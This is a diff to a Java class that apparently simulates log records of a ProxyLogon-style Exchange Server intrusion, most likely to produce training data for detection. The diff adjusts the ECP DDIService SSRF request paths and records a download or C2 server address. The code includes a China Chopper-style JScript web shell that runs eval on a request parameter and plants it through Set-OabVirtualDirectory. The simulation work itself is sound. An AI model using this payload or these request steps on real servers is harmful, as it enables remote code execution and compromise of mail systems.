@@ -110,21 +110,21 @@ final class OperationActivity {
         String windowsPath = dir[0] + name, url = dir[1] + name;
         String admin = org.netbios() + "\\Administrator";
         if (exploit.equals("proxylogon-26858")) {
-            t = ssrf(t, ip, agent, js, "/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary=" + canary + "#");
+            t = ssrf(t, ip, agent, js, "/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=" + canary + "&schema=OABVirtualDirectory#");
             t += 3000 + r.nextInt(30000);
             add(new LogRecord.Oab(t, index, "Warning", "Download failed and temporary file '" + windowsPath + "' needs to be removed."), 0);
             dropShell(t + 500, "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe", windowsPath,
                     WebShells.content(shellKind(false), password, org, host));
         } else {
-            t = ssrf(t, ip, agent, js, "/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary=" + canary + "#");
+            t = ssrf(t, ip, agent, js, "/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=" + canary + "&schema=OABVirtualDirectory#");
             String script = "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"" + password
                     + "\"],\"unsafe\");}</script>";
-            t = ssrf(t, ip, agent, js, "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=" + canary + "#");
-            add(backend(t + 150, "schema=OABVirtualDirectory&msExchEcpCanary=" + canary), 0);
+            t = ssrf(t, ip, agent, js, "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" + canary + "&schema=OABVirtualDirectory#");
+            add(backend(t + 150, "msExchEcpCanary=" + canary + "&schema=OABVirtualDirectory"), 0);
             add(new LogRecord.Ecp(t + 300, index, admin, ip, "Set-OabVirtualDirectory",
                     "-Identity '" + host.shortName() + "\\OAB (Default Web Site)' -ExternalUrl '" + script + "'"), ip);
-            t = ssrf(t, ip, agent, js, "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=" + canary + "#");
-            add(backend(t + 150, "schema=ResetOABVirtualDirectory&msExchEcpCanary=" + canary), 0);
+            t = ssrf(t, ip, agent, js, "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" + canary + "&schema=ResetOABVirtualDirectory#");
+            add(backend(t + 150, "msExchEcpCanary=" + canary + "&schema=ResetOABVirtualDirectory"), 0);
             dropShell(t + 400, WindowsEvents.W3WP, windowsPath, WebShells.content("oab-chopper", password, org, host));
         }
         t += 20_000 + r.nextInt(120_000);
@@ -265,6 +265,7 @@ final class OperationActivity {
     private long run(Tradecraft.Variant v, Map<String, String> vars, long t, int ip, String url, String shellDir) {
         String lastImage = WindowsEvents.W3WP, lastCommand = "";
         int lastPid = 5000;
+        for (Tradecraft.Step step : v.steps()) if (step.text().contains("{ip}")) op.infrastructure.add(vars.get("{ip}")); // a download or C2 server
         for (Tradecraft.Step step : v.steps()) {
             String text = fill(step.text(), vars);
             t += 2000 + r.nextInt(90_000);
